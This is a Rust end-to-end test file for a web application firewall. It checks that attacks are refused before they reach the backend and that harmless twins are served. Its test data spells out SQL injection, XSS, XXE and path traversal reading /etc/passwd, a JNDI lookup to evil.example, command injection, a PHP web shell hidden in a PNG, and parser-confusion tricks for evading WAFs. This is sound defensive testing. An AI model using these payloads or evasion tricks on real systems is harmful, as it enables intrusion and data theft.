//! End-to-end WAF tests: attacks in every part of a request are refused before anything reaches
//! the backend; detect mode, exclusions, body limits, explanations and rule reloads.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;

fn config(backend: std::net::SocketAddr, waf: &str, route_extra: &str) -> String {
    format!(
        r#"{GATEWAY_HEAD}
reload: {{ poll_interval: 50ms }}
upstreams:
  app: {{ backends: ["{backend}"] }}
routes:
  - name: app
    upstream: app
{route_extra}
waf:
{waf}
"#
    )
}

/// The raw answer to a `POST /api` of `body` with this Content-Type and `extra` header lines
/// (each ending in CRLF), sent byte for byte.
/// A POST of `body` to `/api`; without a `Content-Type` line when `content_type` is empty.
fn post_raw(gw: &TestGateway, extra: &str, content_type: &str, body: &[u8]) -> String {
    let content_type = if content_type.is_empty() {
        String::new()
    } else {
        format!("Content-Type: {content_type}\r\n")
    };
    let mut req = format!(
        "POST /api HTTP/1.1\r\nHost: app\r\nConnection: close\r\n{extra}{content_type}Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    raw_request(gw.addr(), &req, std::time::Duration::from_secs(5))
}

/// One case of a confusion test: its harmless twin is served (200, and it reaches the backend),
/// its attack is refused with 403 problem+json and does not reach the backend.
fn twin_served_attack_refused(
    be: &Backend,
    what: &str,
    harmless: impl FnOnce() -> String,
    attack: impl FnOnce() -> String,
) {
    let before = be.count();
    let resp = harmless();
    assert!(resp.starts_with("HTTP/1.1 200"), "{what}, harmless: {resp}");
    assert_eq!(
        be.count(),
        before + 1,
        "{what}: the harmless request was not forwarded"
    );
    let resp = attack();
    assert!(resp.starts_with("HTTP/1.1 403"), "{what}: {resp}");
    assert!(resp.contains("application/problem+json"), "{what}: {resp}");
    assert_eq!(
        be.count(),
        before + 1,
        "{what}: the attack reached the backend"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_every_part_of_a_request_are_blocked_before_the_backend() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
    let cl = client();
    let multipart = "--XB\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<script>alert(document.cookie)</script>\r\n--XB--\r\n";
    let xml =
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    // A POST of `body` to `path` with this Content-Type.
    let post = |path: &str, content_type: &str, body: &str| {
        cl.post(gw.url(path))
            .header("Content-Type", content_type)
            .body(body.to_owned())
    };
    let attacks: Vec<(&str, reqwest::RequestBuilder)> = vec![
        (
            "query",
            cl.get(gw.url("/search?id=1%27%20or%20%271%27%3D%271")),
        ),
        ("path", cl.get(gw.url("/files/..%2f..%2f..%2fetc%2fpasswd"))),
        (
            "header",
            cl.get(gw.url("/"))
                .header("X-Api-Version", "${jndi:ldap://evil.example/a}"),
        ),
        (
            "user-agent",
            cl.get(gw.url("/"))
                .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ),
        (
            "cookie",
            cl.get(gw.url("/")).header(
                "Cookie",
                "session=abc; id=1' union select password from users--",
            ),
        ),
        (
            "form",
            post("/login", "application/x-www-form-urlencoded", "user=admin%27--&pass=x"),
        ),
        (
            "json",
            post("/api", "application/json", r#"{"user":{"name":"x","bio":"<img src=x onerror=alert(1)>"}}"#),
        ),
        (
            // Backends whose JSON parser keeps the first of two equal keys act on the attack.
            "json, the key repeated after the attack",
            post("/api", "application/json", r#"{"id":"1' union select password from users--","id":"7"}"#),
        ),
        (
            "json, prototype pollution nested in an array",
            post("/api", "application/json", r#"{"items":[{"constructor":{"prototype":{"isAdmin":true}}}]}"#),
        ),
        (
            "json with escapes",
            post("/api", "application/json", r#"{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
        ),
        (
            "multipart",
            post("/upload", "multipart/form-data; boundary=XB", multipart),
        ),
        (
            // An epilogue part: lenient backend parsers read it.
            "multipart, a part after the closing delimiter",
            post("/upload", "multipart/form-data; boundary=XB", "--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nok\r\n--XB--\r\n--XB\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(document.cookie)</script>\r\n--XB--\r\n"),
        ),
        (
            // RFC 7578 has no `filename*`; a parser that does not know it reads a field.
            "multipart, a field with only filename*",
            post("/upload", "multipart/form-data; boundary=XB", "--XB\r\nContent-Disposition: form-data; name=\"q\"; filename*=UTF-8''q.txt\r\n\r\n1' union select password from users--\r\n--XB--\r\n"),
        ),
        (
            "multipart part header",
            post("/upload", "multipart/form-data; boundary=XB", "--XB\r\nContent-Disposition: form-data; name=\"bio\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n--XB--\r\n"),
        ),
        (
            "GET with a body (request line and header together)",
            cl.get(gw.url("/search"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .body("q=shoes"),
        ),
        (
            "xml",
            post("/soap", "application/xml", xml),
        ),
        (
            // Read leniently, the broken tag's attributes would never be seen.
            "xml that is not well-formed",
            post("/soap", "application/xml", "hello <img src=x onerror=alert(1)>"),
        ),
        (
            "raw body",
            post("/cmd", "text/plain", ";cat /etc/passwd"),
        ),
    ];
    for (zone, req) in attacks {
        let r = req.send().await.unwrap();
        assert_eq!(r.status(), 403, "{zone} attack was not blocked");
        assert_eq!(r.headers()["content-type"], "application/problem+json");
        let rid = r.headers()["x-request-id"].to_str().unwrap().to_string();
        let body = r.text().await.unwrap();
        let p: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(p["status"], 403);
        assert_eq!(p["request_id"], rid.as_str());
        assert!(
            !body.contains("rule"),
            "the 403 must not reveal rule internals: {body}"
        );
        let line = gw.log_line(&rid).await;
        assert_eq!(line["status"], 403, "{zone}");
        assert_eq!(line["refusal"], "waf_blocked", "{zone}");
        assert_eq!(line["waf"]["decision"], "blocked", "{zone}");
        assert!(
            line["waf"]["score"].as_u64().unwrap() >= 5,
            "{zone}: {line}"
        );
        assert!(
            !line["waf"]["matches"].as_array().unwrap().is_empty(),
            "{zone}: {line}"
        );
    }
    assert_eq!(
        be.count(),
        0,
        "a blocked request reached the backend: {:?}",
        be.seen()
    );

    // Ordinary traffic passes, including the near-misses rules must tolerate.
    let benign = [
        cl.get(gw.url("/search?q=select+a+plan+from+the+list&name=O%27Brien")),
        cl.post(gw.url("/comments"))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body("comment=I+%3Cb%3Ereally%3C%2Fb%3E+like+it&file=report.v2.final.pdf"),
        cl.post(gw.url("/api"))
            .header("Content-Type", "application/json")
            .body(r#"{"title":"Rock 'n' roll","price":10.5,"tags":["a","b"]}"#),
    ];
    for req in benign {
        assert_eq!(req.send().await.unwrap().status(), 200);
    }
    assert_eq!(be.count(), 3);
    gw.wait_metric(
        r#"portcullis_waf_blocks_total{category="sqli",route="app"}"#,
        5.0,
    )
    .await;
    let m = gw.metrics().await;
    assert!(
        m.contains("portcullis_waf_rule_matches_total{rule=\"190100\"}"),
        "{m}"
    );
}

const LOCAL_RULES: &str = r#"
rules:
  - id: evil-word
    description: the word evil
    targets: [inputs]
    transforms: [lowercase]
    operator: { contains: evil }
    tests:
      match: ["GET /?x=EVIL"]
"#;

fn dir_with_rules(rules: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    std::fs::write(dir.path().join("rules/local.yaml"), rules).unwrap();
    dir
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_lets_attacks_through_and_logs_them() {
    let be = Backend::start("app");
    let gw = TestGateway::start_in(
        dir_with_rules(LOCAL_RULES),
        &config(be.addr, "  rules: [rules]\n  mode: detect\n", ""),
    );
    let r = client().get(gw.url("/?x=evil")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(be.count(), 1);
    let rid = r.headers()["x-request-id"].to_str().unwrap().to_string();
    let line = gw.log_line(&rid).await;
    assert_eq!(line["waf"]["mode"], "detect");
    assert_eq!(line["waf"]["decision"], "would_block");
    assert_eq!(line["waf"]["matches"][0]["rule"], "evil-word");
    assert_eq!(line["waf"]["matches"][0]["targets"][0], "args:x");
    gw.wait_metric(
        r#"portcullis_waf_detections_total{category="other",route="app"}"#,
        1.0,
    )
    .await;
    assert_eq!(
        gw.metric(r#"portcullis_waf_blocks_total{category="other",route="app"}"#)
            .await,
        0.0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exclusions_silence_one_rule_for_one_argument_on_one_route() {
    let be = Backend::start("app");
    let gw = TestGateway::start_in(
        dir_with_rules(LOCAL_RULES),
        &config(
            be.addr,
            "  rules: [rules]\n  exclusions:\n    - { rules: [evil-word], targets: [\"args:comment\", \"body_args:comment\"], routes: [app] }\n",
            "",
        ),
    );
    let cl = client();
    assert_eq!(
        cl.get(gw.url("/?comment=evil"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        cl.get(gw.url("/?other=evil"))
            .send()
            .await
            .unwrap()
            .status(),
        403
    );
    // A multipart value sent under two names is judged under each: the exclusion for one
    // does not hide it (backends differ on which name counts).
    let part = |disposition: &str| {
        cl.post(gw.url("/upload"))
            .header("Content-Type", "multipart/form-data; boundary=XB")
            .body(format!(
                "--XB\r\nContent-Disposition: form-data; {disposition}\r\n\r\nevil\r\n--XB--\r\n"
            ))
    };
    let sent = part(r#"name="comment""#).send().await.unwrap();
    assert_eq!(sent.status(), 200);
    let sent = part(r#"name="other"; name="comment""#)
        .send()
        .await
        .unwrap();
    assert_eq!(sent.status(), 403);
    assert_eq!(be.count(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn route_overrides_apply_per_route() {
    let be = Backend::start("app");
    let yaml = config(be.addr, "  rules: [rules]\n", "").replace(
        "routes:\n  - name: app\n    upstream: app\n",
        "routes:\n  - name: app\n    upstream: app\n  - name: trusted\n    path_prefix: /internal\n    upstream: app\n    waf: { mode: off }\n  - name: watched\n    path_prefix: /beta\n    upstream: app\n    waf: { mode: detect }\n",
    );
    let gw = TestGateway::start_in(dir_with_rules(LOCAL_RULES), &yaml);
    let cl = client();
    assert_eq!(
        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
        403
    );
    assert_eq!(
        cl.get(gw.url("/internal?x=evil"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        cl.get(gw.url("/beta?x=evil"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(be.count(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_bodies_are_rejected_or_passed_uninspected_as_configured() {
    let be = Backend::start("app");
    let yaml = config(be.addr, "  rules: [rules]\n  body_limit: 1KiB\n", "").replace(
        "routes:\n  - name: app\n    upstream: app\n",
        "routes:\n  - name: app\n    upstream: app\n  - name: uploads\n    path_prefix: /upload\n    upstream: app\n    waf: { on_body_limit: pass }\n",
    );
    let gw = TestGateway::start_in(dir_with_rules(LOCAL_RULES), &yaml);
    let cl = client();
    let big = format!("data={}", "a".repeat(4000));

    let r = cl
        .post(gw.url("/form"))
        .body(big.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413);
    assert_eq!(be.count(), 0);

    // Passed: forwarded whole and unchanged, even with an attack word the WAF never saw.
    let evil_big = format!("{big}&x=evil");
    let r = cl
        .post(gw.url("/upload"))
        .body(evil_big.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(be.last().body, evil_big.as_bytes());

    // A chunked body (no Content-Length) over the limit on the pass route is replayed intact.
    let chunks: Vec<Result<bytes::Bytes, std::io::Error>> = (0..8)
        .map(|i| Ok(bytes::Bytes::from(format!("{i}{}", "b".repeat(299)))))
        .collect();
    let expected: Vec<u8> = (0..8)
        .flat_map(|i| format!("{i}{}", "b".repeat(299)).into_bytes())
        .collect();
    let r = cl
        .post(gw.url("/upload/chunked"))
        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
            chunks,
        )))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(be.last().body, expected);

    // Under the limit: inspected, attack blocked.
    let r = cl
        .post(gw.url("/upload"))
        .body("x=evil")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    gw.wait_metric(
        r#"portcullis_waf_body_limit_total{action="rejected",limit="body_limit",route="app"}"#,
        1.0,
    )
    .await;
    gw.wait_metric(
        r#"portcullis_waf_body_limit_total{action="passed",limit="body_limit",route="uploads"}"#,
        2.0,
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_past_a_structure_limit_are_refused_or_passed_as_configured() {
    let be = Backend::start("app");
    let yaml = config(be.addr, "  rules: [rules]\n", "").replace(
        "routes:\n  - name: app\n    upstream: app\n",
        "limits: { max_json_depth: 8, max_body_args: 20, max_multipart_parts: 3 }\nroutes:\n  - name: app\n    upstream: app\n  - name: uploads\n    path_prefix: /upload\n    upstream: app\n    waf: { on_body_limit: pass }\n",
    );
    let gw = TestGateway::start_in(dir_with_rules(LOCAL_RULES), &yaml);
    let cl = client();
    let nested = |depth: usize, leaf: &str| {
        format!(
            "{}\"{leaf}\"{}",
            "{\"a\":[".repeat(depth),
            "]}".repeat(depth)
        )
    };
    let form = |n: usize, evil_at: usize| {
        (0..n)
            .map(|i| format!("f{i}={}", if i == evil_at { "evil" } else { "ok" }))
            .collect::<Vec<_>>()
            .join("&")
    };
    let part = "--B\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\nok\r\n";
    let multipart = |n: usize| format!("{}--B--\r\n", part.repeat(n));
    let send = |path: &str, ct: &str, body: String| {
        cl.post(gw.url(path))
            .header("content-type", ct)
            .body(body)
            .send()
    };
    const JSON: &str = "application/json";
    const FORM: &str = "application/x-www-form-urlencoded";
    const MULTIPART: &str = "multipart/form-data; boundary=B";

    // Within the limits: inspected as usual.
    assert_eq!(
        send("/api", JSON, nested(4, "fine"))
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        send("/api", JSON, nested(4, "evil"))
            .await
            .unwrap()
            .status(),
        403
    );
    assert_eq!(
        send("/api", FORM, form(20, 19)).await.unwrap().status(),
        403
    );
    assert_eq!(
        send("/api", MULTIPART, multipart(3))
            .await
            .unwrap()
            .status(),
        200
    );
    let forwarded = be.count();
    assert_eq!(forwarded, 2);

    // Past them, on a rejecting route: 400 problem+json, nothing forwarded. An attack hidden
    // past the limit gets no way through.
    for (ct, body, limit) in [
        (JSON, nested(9, "fine"), "max_json_depth"),
        (JSON, nested(300, "evil"), "max_json_depth"),
        (FORM, form(21, 20), "max_body_args"),
        (MULTIPART, multipart(4), "max_multipart_parts"),
    ] {
        let r = send("/api", ct, body).await.unwrap();
        assert_eq!(r.status(), 400, "{limit}");
        assert_eq!(
            r.headers()["content-type"],
            "application/problem+json",
            "{limit}"
        );
        let rid = r.headers()["x-request-id"].to_str().unwrap().to_string();
        let p: serde_json::Value = r.json().await.unwrap();
        assert_eq!(p["type"], "tag:portcullis,2026:body_too_complex");
        let line = gw.log_line(&rid).await;
        assert_eq!(line["refusal"], "body_too_complex");
        assert_eq!(line["waf"]["body"], format!("{limit}_rejected"));
    }
    assert_eq!(
        be.count(),
        forwarded,
        "a body past a limit reached the backend"
    );
    // An attack before the limit is still an attack.
    assert_eq!(send("/api", FORM, form(30, 1)).await.unwrap().status(), 403);

    // On a passing route: inspected up to the limit, then forwarded whole.
    let body = form(30, 25);
    let r = send("/upload", FORM, body.clone()).await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(be.last().body, body.as_bytes());
    assert_eq!(
        send("/upload", FORM, form(30, 1)).await.unwrap().status(),
        403
    );
    assert_eq!(
        send("/upload", JSON, nested(12, "fine"))
            .await
            .unwrap()
            .status(),
        200
    );

    gw.wait_body_limits(&[
        ("rejected", "max_json_depth", "app", 2.0),
        // The form past the limit, and the one blocked for what came before it.
        ("rejected", "max_body_args", "app", 2.0),
        ("rejected", "max_multipart_parts", "app", 1.0),
        ("passed", "max_body_args", "uploads", 2.0),
        ("passed", "max_json_depth", "uploads", 1.0),
    ])
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_broken_rule_file_is_refused_and_the_old_rules_keep_working() {
    let be = Backend::start("app");
    let gw = TestGateway::start_in(
        dir_with_rules(LOCAL_RULES),
        &config(be.addr, "  rules: [rules]\n", ""),
    );
    let cl = client();
    assert_eq!(
        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
        403
    );

    let broken = LOCAL_RULES.replace(
        "transforms: [lowercase]",
        "transforms: [lowercase, urldecod]",
    );
    write_atomically(&gw.path("rules/local.yaml"), &broken);
    gw.wait_metric(r#"portcullis_config_reloads_total{result="failure"}"#, 1.0)
        .await;
    assert_eq!(
        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
        403,
        "old rules keep serving"
    );

    let changed = LOCAL_RULES
        .replace("contains: evil", "contains: wicked")
        .replace("x=EVIL", "x=WICKED");
    write_atomically(&gw.path("rules/local.yaml"), &changed);
    gw.wait_metric(r#"portcullis_config_reloads_total{result="success"}"#, 1.0)
        .await;
    assert_eq!(
        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
        200
    );
    assert_eq!(
        cl.get(gw.url("/?x=wicked")).send().await.unwrap().status(),
        403
    );

    // A new rule file dropped into the directory is picked up too.
    std::fs::write(
        gw.path("rules/more.yaml"),
        "rules:\n  - { id: vile, description: v, targets: [inputs], operator: { contains: vile }, tests: { match: [\"GET /?a=vile\"] } }\n",
    )
    .unwrap();
    gw.wait_metric(r#"portcullis_config_reloads_total{result="success"}"#, 2.0)
        .await;
    assert_eq!(
        cl.get(gw.url("/?x=vile")).send().await.unwrap().status(),
        403
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn binary_uploads_pass_and_code_hidden_in_them_is_blocked() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
    let cl = client();
    let put = |content_type: &str, body: Vec<u8>| {
        cl.put(gw.url("/upload"))
            .header("Content-Type", content_type)
            .body(body)
    };
    let png_head = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x80\0\0\0\x80\x08\x06\0\0\0".to_vec();
    // Random bytes hold quotes, `<` and a letter, backticks and `$(` by chance; text rules read
    // over them blocked about half of such uploads.
    let mut sent = 0;
    for (i, size) in [300, 2_000, 8_000, 20_000, 40_000, 60_000]
        .iter()
        .enumerate()
    {
        for content_type in [
            "image/png",
            "application/octet-stream",
            "application/x-protobuf",
        ] {
            let mut body = png_head.clone();
            body.extend(noise(i as u64 * 7 + content_type.len() as u64, *size));
            let r = put(content_type, body).send().await.unwrap();
            assert_eq!(r.status(), 200, "{size} bytes as {content_type}");
            sent += 1;
        }
    }
    // The XMP metadata photo editors write is markup to libinjection, but in an image it is
    // metadata.
    let mut photo = png_head.clone();
    photo.extend(noise(99, 4_000));
    photo.extend_from_slice(b"iTXtXML:com.adobe.xmp\0\0\0\0\0<?xpacket begin=\"\xef\xbb\xbf\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>\n<x:xmpmeta xmlns:x=\"adobe:ns:meta/\" x:xmptk=\"XMP Core 5.5.0\">\n <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"/>\n</x:xmpmeta>\n<?xpacket end=\"r\"?>");
    photo.extend(noise(100, 4_000));
    assert_eq!(put("image/png", photo).send().await.unwrap().status(), 200);
    sent += 1;
    assert_eq!(be.count(), sent);

    // What an attacker hides in a binary body is still seen.
    let mut polyglot = png_head.clone();
    polyglot.extend(noise(5, 8_000));
    polyglot.extend_from_slice(b"<?php system($_GET['c']); ?>");
    let mut serialized = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap".to_vec();
    serialized.extend(noise(6, 200));
    // Some JSON decoders ignore the Content-Type and accept bytes that are not UTF-8 in strings.
    let mut padded_json = br#"{"q":"1' union select password from users--","pad":""#.to_vec();
    padded_json.extend(std::iter::repeat_n(0xff, 400));
    padded_json.extend_from_slice(br#""}"#);
    for (what, content_type, body) in [
        ("a web shell after the image data", "image/png", polyglot),
        (
            "a serialized Java object",
            "application/x-java-serialized-object",
            serialized,
        ),
        (
            "JSON padded with bytes that are not text",
            "image/png",
            padded_json,
        ),
    ] {
        let r = put(content_type, body).send().await.unwrap();
        assert_eq!(r.status(), 403, "{what}");
    }
    assert_eq!(be.count(), sent, "a blocked upload reached the backend");
}

/// Bodies built so that the WAF's parser and a backend's read them differently. Each attack is
/// refused, and the same body with a harmless value in place of the attack is served, so what
/// blocks is the attack and not the body's shape.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn body_parser_confusions_do_not_hide_attacks() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
    let send = |content_type: &[u8], body: &[u8]| {
        let mut req =
            b"POST /form HTTP/1.1\r\nHost: app\r\nConnection: close\r\nContent-Type: ".to_vec();
        req.extend_from_slice(content_type);
        req.extend_from_slice(format!("\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes());
        req.extend_from_slice(body);
        raw_request(gw.addr(), &req, std::time::Duration::from_secs(5))
    };
    let attack = b"' UNION SELECT password FROM users--".as_slice();
    let harmless = b"a plain comment about our union meeting".as_slice();
    // A small image part makes one byte in twenty of the body not text.
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend((0u8..32).cycle().take(128));
    let multipart = |boundary: &str, parts: &[(&[u8], &[u8])]| {
        let mut b = Vec::new();
        for (head, content) in parts {
            b.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
            b.extend_from_slice(head);
            b.extend_from_slice(b"\r\n\r\n");
            b.extend_from_slice(content);
            b.extend_from_slice(b"\r\n");
        }
        b.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
        b
    };
    let file: &[u8] = b"Content-Disposition: form-data; name=\"avatar\"; filename=\"a.png\"\r\nContent-Type: image/png";
    let field: &[u8] = b"Content-Disposition: form-data; name=\"q\"";
    let long = "b".repeat(300);
    type Case<'a> = Box<dyn Fn(&[u8]) -> (Vec<u8>, Vec<u8>) + 'a>;
    let cases: Vec<(&str, Case)> = vec![
        (
            "a boundary longer than RFC 2046's 70 characters",
            Box::new(|v: &[u8]| {
                let ct = format!("multipart/form-data; boundary={long}").into_bytes();
                (ct, multipart(&long, &[(file, &png), (field, v)]))
            }),
        ),
        (
            "the boundary text inside a value, not at the start of a line",
            Box::new(|v: &[u8]| {
                let mut value = b"x--XB".to_vec();
                value.extend_from_slice(v);
                let body = multipart("XB", &[(file, &png), (field, &value)]);
                (b"multipart/form-data; boundary=XB".to_vec(), body)
            }),
        ),
        (
            "a byte that is not ASCII in a Content-Type parameter",
            Box::new(|v: &[u8]| {
                let mut body = b"q=".to_vec();
                for &c in v {
                    body.extend_from_slice(format!("%{c:02X}").as_bytes());
                }
                body.extend_from_slice(b"&pad=");
                body.extend((1u8..32).cycle().take(93));
                let ct = b"application/x-www-form-urlencoded; a=\xe9".to_vec();
                (ct, body)
            }),
        ),
        (
            "two Content-Disposition lines, only the second naming a file",
            Box::new(|v: &[u8]| {
                let head: &[u8] = b"Content-Disposition: form-data; name=\"q\"\r\nContent-Disposition: form-data; name=\"q\"; filename=\"x\"";
                let body = multipart("XB", &[(head, v)]);
                (b"multipart/form-data; boundary=XB".to_vec(), body)
            }),
        ),
        (
            "an empty filename, which Go's multipart reader takes for a field",
            Box::new(|v: &[u8]| {
                let head: &[u8] = b"Content-Disposition: form-data; name=\"q\"; filename=\"\"";
                let body = multipart("XB", &[(head, v)]);
                (b"multipart/form-data; boundary=XB".to_vec(), body)
            }),
        ),
        (
            "a second boundary parameter (PHP takes the first text `boundary`)",
            Box::new(|v: &[u8]| {
                let body = multipart("AAA", &[(file, &png), (field, v)]);
                let ct = b"multipart/form-data; xboundary=AAA; boundary=BBB".to_vec();
                (ct, body)
            }),
        ),
        (
            "JSON in UTF-16 without a byte order mark, every character a \\u escape",
            Box::new(|v: &[u8]| {
                let escaped: String = String::from_utf8_lossy(v)
                    .chars()
                    .map(|c| format!("\\u{:04x}", c as u32))
                    .collect();
                let json = format!("{{\"q\":\"{escaped}\"}}");
                let body = json.encode_utf16().flat_map(u16::to_le_bytes).collect();
                (b"application/json".to_vec(), body)
            }),
        ),
        (
            "XML text cut by comments and CDATA sections",
            Box::new(|v: &[u8]| {
                let s = String::from_utf8_lossy(v);
                let (a, rest) = s.split_at(4);
                let (b, c) = rest.split_at(6);
                let body = format!(
                    "<r><q>{a}<!---->{b}<![CDATA[{}]]>{}</q></r>",
                    &c[..3],
                    &c[3..]
                );
                (b"application/xml".to_vec(), body.into_bytes())
            }),
        ),
    ];
    for (what, case) in &cases {
        twin_served_attack_refused(
            &be,
            what,
            || {
                let (ct, body) = case(harmless);
                send(&ct, &body)
            },
            || {
                let (ct, body) = case(attack);
                send(&ct, &body)
            },
        );
    }
    let served = cases.len();

    // Two Content-Types that differ: Werkzeug's server and Go read the first, gunicorn the last.
    let two = |second: &str| {
        let body = "q=%27%20UNION%20SELECT%20password%20FROM%20users--&p=\x01\x01\x01\x01\x01";
        let req = format!(
            "POST /form HTTP/1.1\r\nHost: app\r\nConnection: close\r\nContent-Type: text/plain\r\nContent-Type: {second}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        raw_request(gw.addr(), req.as_bytes(), std::time::Duration::from_secs(5))
    };
    let resp = two("application/x-www-form-urlencoded");
    assert!(resp.starts_with("HTTP/1.1 400"), "{resp}");
    assert!(resp.contains("ambiguous_content_type"), "{resp}");
    assert_eq!(be.count(), served, "an ambiguous body reached the backend");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protocol_headers_and_basic_credentials_do_not_carry_attacks() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
    // Sent raw, so the Host header is exactly what the test says.
    let send = |host: &str, header: &str| {
        let req = format!(
            "GET /account HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{header}\r\n\r\n"
        );
        raw_request(gw.addr(), req.as_bytes(), std::time::Duration::from_secs(5))
    };
    let basic = |pair: &str| {
        use base64::Engine as _;
        format!(
            "Authorization: Basic {}",
            base64::engine::general_purpose::STANDARD.encode(pair)
        )
    };
    // Headers kept out of the injection rules for being protocol fields, each with an attack
    // and with what clients really send.
    let cases: Vec<(&str, String, String)> = vec![
        (
            "Host",
            "x' UNION SELECT tenant_key FROM tenants--".into(),
            "api.example.com:8443".into(),
        ),
        (
            "Host",
            "example.com<script>alert(1)</script>".into(),
            "[2001:db8::1]:8080".into(),
        ),
        (
            "If-None-Match",
            "If-None-Match: \"x\"' OR '1'='1".into(),
            "If-None-Match: W/\"5f2b-1a2b3c4d\"".into(),
        ),
        (
            "Range",
            "Range: bytes=0-<script>alert(1)</script>".into(),
            "Range: bytes=0-499, -500".into(),
        ),
        (
            "If-Modified-Since",
            "If-Modified-Since: ' UNION SELECT password FROM users--".into(),
            "If-Modified-Since: Wed, 21 Oct 2015 07:28:00 GMT".into(),
        ),
        (
            "Cache-Control",
            "Cache-Control: no-cache; cat /etc/passwd".into(),
            "Cache-Control: max-age=0, no-cache".into(),
        ),
        (
            "Sec-CH-UA",
            "Sec-CH-UA: \"Chromium\";v=\"124\"' UNION SELECT password FROM users--".into(),
            "Sec-CH-UA: \"Not A(Brand\";v=\"8\", \"Chromium\";v=\"132\"".into(),
        ),
        (
            "Authorization",
            "Authorization: Bearer ' OR 1=1--".into(),
            "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl".into(),
        ),
        (
            "Basic user name",
            basic("admin'--:anything"),
            basic("o'brien:correct horse battery staple"),
        ),
        (
            "Basic password",
            basic("admin:' or '1'='1"),
            basic("jane:x7'Kq;--Zp"),
        ),
        (
            "Basic user name shown on an admin page",
            basic("<img src=x onerror=alert(1)>:x"),
            basic("jane:p<ss>w0rd"),
        ),
    ];
    for (what, attack, harmless) in &cases {
        let (attack_host, attack_header, harmless_host, harmless_header) = if *what == "Host" {
            (attack.as_str(), "", harmless.as_str(), "")
        } else {
            ("app", attack.as_str(), "app", harmless.as_str())
        };
        twin_served_attack_refused(
            &be,
            what,
            || send(harmless_host, harmless_header),
            || send(attack_host, attack_header),
        );
    }

    // The log names where the attack was: the decoded user name, never its value.
    let resp = send("app", &basic("admin'--:s3cret-pass"));
    assert!(resp.starts_with("HTTP/1.1 403"), "{resp}");
    let rid = resp
        .lines()
        .find_map(|l| {
            let (name, value) = l.split_once(':')?;
            name.eq_ignore_ascii_case("x-request-id")
                .then(|| value.trim().to_string())
        })
        .expect("x-request-id");
    let line = gw.log_line(&rid).await;
    let matches = line["waf"]["matches"].as_array().unwrap();
    assert!(
        matches.iter().any(|m| m["targets"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "credentials:user")),
        "{line}"
    );
    assert!(!line.to_string().contains("s3cret"), "{line}");
}

/// Python servers (http.cookies, Werkzeug) keep a double-quoted cookie value whole across `;` and
/// decode its `\ooo` escapes; several Cookie lines are joined into one before the WAF and the
/// backend see them, so a quoted value cannot run from one line into the next unseen.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cookies_are_read_as_python_servers_read_them_too() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
